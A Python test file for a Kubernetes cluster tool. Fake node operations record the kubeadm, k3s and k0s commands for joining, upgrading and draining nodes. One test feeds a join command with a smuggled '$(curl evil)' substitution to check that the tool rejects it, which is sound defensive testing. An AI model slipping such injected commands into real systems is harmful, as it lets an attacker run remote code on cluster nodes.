"""Each runtime, without hosts: a recording double of its NodeOps takes the command lines in
and gives canned output back, as pyinfra tests its operations. What a distribution's step runs,
in order, and what it reads from the answers (join commands, tokens, node lists)."""

from __future__ import annotations

import json
import re

import pytest

from cluster.errors import SealerError
from cluster.model import DrainPolicy
from executors.driver import HostError, Result
from executors.runtimes import runtime_for

M, M2, W = "10.0.0.1", "10.0.0.2", "10.0.0.3"
NAMES = {M: "m1", M2: "m2", W: "w1"}
JOIN = (
    "kubeadm join apiserver.cluster.local:6443 --token abcdef.0123456789abcdef "
    "--discovery-token-ca-cert-hash sha256:" + "a" * 64
)


def node(name: str, version: str = "v1.25.3", ready: bool = True) -> dict:
    return {
        "metadata": {"name": name, "labels": {}},
        "status": {
            "conditions": [{"type": "Ready", "status": "True" if ready else "False"}],
            "nodeInfo": {"kubeletVersion": version},
            "addresses": [{"type": "InternalIP", "address": ""}],
        },
    }


class RecordingOps:
    """NodeOps that records (ip, command, stdin) and answers by the first matching pattern."""

    def __init__(self, answers: dict[str, str] | None = None, version: str = "v1.25.3"):
        self.bootstrap = M
        self.ran: list[tuple[str, str, bytes]] = []
        self.answers = {
            r"get nodes -o json": json.dumps({"items": [node(n, version) for n in NAMES.values()]}),
            r"^test -f ": (1, ""),  # nothing installed yet
            **(answers or {}),
        }
        self._version = version

    def run(self, ip, command, *, stdin=b"", check=True, secrets=(), timeout=None) -> Result:
        self.ran.append((ip, command, stdin))
        for pattern, answer in self.answers.items():
            if re.search(pattern, command):
                code, out = answer if isinstance(answer, tuple) else (0, answer)
                return Result(code, out, "")
        return Result(0, "", "")

    def follow(self, ip, command):
        raise HostError(ip, "no watch here")  # waiters fall back to polling the node list

    def name(self, ip):
        return NAMES[ip]

    def address(self, ip):
        return ip

    def labels(self, ip):
        return {"pool": "general"} if ip == W else {}

    def taints(self, ip):
        return []

    version = property(lambda self: self._version)
    masters = property(lambda self: [M, M2])
    endpoint = property(lambda self: ("apiserver.cluster.local", 6443))

    def commands(self, ip: str | None = None) -> list[str]:
        return [c for host, c, _ in self.ran if ip is None or host == ip]


def test_kubeadm_joins_a_worker_with_the_token_it_read_and_labels_it():
    ops = RecordingOps({r"kubeadm token create": JOIN + "\n"})
    runtime_for("kubernetes").join_worker(ops, W)
    assert ops.commands(W)[0] == "test -f /etc/kubernetes/kubelet.conf"  # joined before?
    assert ops.commands(M)[0] == "kubeadm token create --print-join-command"
    joined = next((c, stdin) for ip, c, stdin in ops.ran if "kubeadm join" in c)
    assert "kubeadm join --config=/etc/kubernetes/kubeadm-join.yaml" in joined[0]
    assert b"abcdef.0123456789abcdef" in joined[1]  # the token travels on stdin only
    assert "abcdef" not in " ".join(ops.commands())
    assert ops.commands(M)[-1] == "kubectl label node w1 pool=general --overwrite"


def test_kubeadm_refuses_a_join_command_it_cannot_read():
    ops = RecordingOps({r"kubeadm token create": "kubeadm join $(curl evil) --token x\n"})
    with pytest.raises(SealerError, match="printed no join command"):
        runtime_for("kubernetes").join_worker(ops, W)


def test_kubeadm_upgrades_the_bootstrap_master_with_apply_and_others_with_node():
    ops = RecordingOps(version="v1.26.1")
    runtime = runtime_for("kubernetes", DrainPolicy(timeout=120))
    runtime.upgrade_master(ops, M)
    on_master = ops.commands(M)
    assert on_master[1].startswith("kubectl drain m1 --ignore-daemonsets --delete-emptydir-data")
    assert "--timeout=120s" in on_master[1]
    assert on_master[2:4] == ["kubeadm upgrade apply v1.26.1 -y", "systemctl restart kubelet"]
    assert on_master[-1] == "kubectl uncordon m1"
    ops.ran.clear()
    runtime.upgrade_master(ops, M2)
    assert "kubeadm upgrade node" in ops.commands(M2)


def test_a_worker_upgrade_is_cordon_drain_restart_wait_uncordon_in_every_runtime():
    for name, restart in (
        ("kubernetes", "systemctl restart kubelet"),
        ("k3s", "systemctl restart k3s-agent"),
        ("k0s", "k0s stop && k0s start"),
    ):
        ops = RecordingOps(version="v1.26.1")
        runtime_for(name).upgrade_worker(ops, W)
        kubectl = "k0s kubectl" if name == "k0s" else "kubectl"
        steps = [c for c in ops.commands() if "get nodes" not in c]
        assert steps[0] == f"{kubectl} cordon w1", name
        assert steps[1].startswith(f"{kubectl} drain w1"), name
        assert restart in steps, name
        assert steps[-1] == f"{kubectl} uncordon w1", name


def test_a_worker_that_never_reaches_the_new_version_fails_its_upgrade():
    ops = RecordingOps(version="v1.26.1")
    ops.answers[r"get nodes -o json"] = json.dumps({"items": [node("w1", "v1.25.3")]})
    runtime = runtime_for("k3s")
    runtime.ready_timeout = 0.3
    with pytest.raises(SealerError, match="node w1 not Ready at v1.26.1"):
        runtime.upgrade_worker(ops, W)
    assert "k3s uncordon" not in " ".join(ops.commands())


def test_k3s_joins_with_the_server_token_on_stdin_and_a_yaml_config():
    ops = RecordingOps({r"cat /var/lib/rancher/k3s/server/token": "K10secret::server:abc\n"})
    runtime_for("k3s").join_worker(ops, W)
    install = next((c, stdin) for ip, c, stdin in ops.ran if ip == W and "k3s-agent" in c)
    assert "systemctl enable --now k3s-agent" in install[0]
    # A unit without [Install] is started but never enabled: a rebooted node would stay down.
    assert "[Install]\nWantedBy=multi-user.target" in install[0]
    config = install[1].decode()
    assert "token: K10secret::server:abc" in config
    assert "server: https://apiserver.cluster.local:6443" in config
    assert "node-label:\n- pool=general" in config
    assert "K10secret" not in " ".join(ops.commands())


def test_k0s_controllers_are_waited_for_in_etcd_not_as_nodes():
    ops = RecordingOps({
        r"k0s token create --role=controller": "tokenabc\n",
        r"k0s etcd member-list": json.dumps({"members": {"m1": "https://10.0.0.1:2380",
                                                         "m2": "https://10.0.0.2:2380"}}),
    })  # fmt: skip
    runtime_for("k0s").join_master(ops, M2)
    on_new = ops.commands(M2)
    assert any("k0s install controller --token-file /etc/k0s/join-token" in c for c in on_new)
    assert "k0s etcd member-list" in ops.commands(M)
    assert not any("label node" in c or "get nodes" in c for c in ops.commands())


def test_the_drain_policy_is_given_at_construction():
    ops = RecordingOps()
    runtime_for("k3s", DrainPolicy(force=True, disable_eviction=True)).delete_worker(ops, W)
    drain = next(c for c in ops.commands(M) if "drain" in c)
    assert "--force" in drain and "--disable-eviction" in drain
    skipped = RecordingOps()
    runtime_for("k3s", DrainPolicy(skip=True)).delete_worker(skipped, W)
    assert not any("drain" in c for c in skipped.commands())


def test_image_pull_failures_are_read_from_kubectls_pod_list():
    from executors.runtimes.base import image_pull_failures

    def pod(name, node, **states):
        statuses = [
            {"name": c, "image": f"reg/{c}:1", "state": state} for c, state in states.items()
        ]
        return {
            "metadata": {"namespace": "apps", "name": name},
            "spec": {"nodeName": node},
            "status": {"containerStatuses": statuses},
        }

    back_off = {"waiting": {"reason": "ImagePullBackOff", "message": 'Back-off pulling image "x"'}}
    listed = {
        "items": [
            pod("ok", "n1", web={"running": {}}),
            pod("creating", "n1", web={"waiting": {"reason": "ContainerCreating"}}),
            pod("bad", "n2", web={"running": {}}, db=back_off),
            {"metadata": {"name": "bare"}},  # no spec, no status: nothing to say
        ]
    }
    assert image_pull_failures(json.dumps(listed)) == [
        {
            "pod": "apps/bad",
            "node": "n2",
            "container": "db",
            "image": "reg/db:1",
            "reason": "ImagePullBackOff",
            "message": 'Back-off pulling image "x"',
        }
    ]
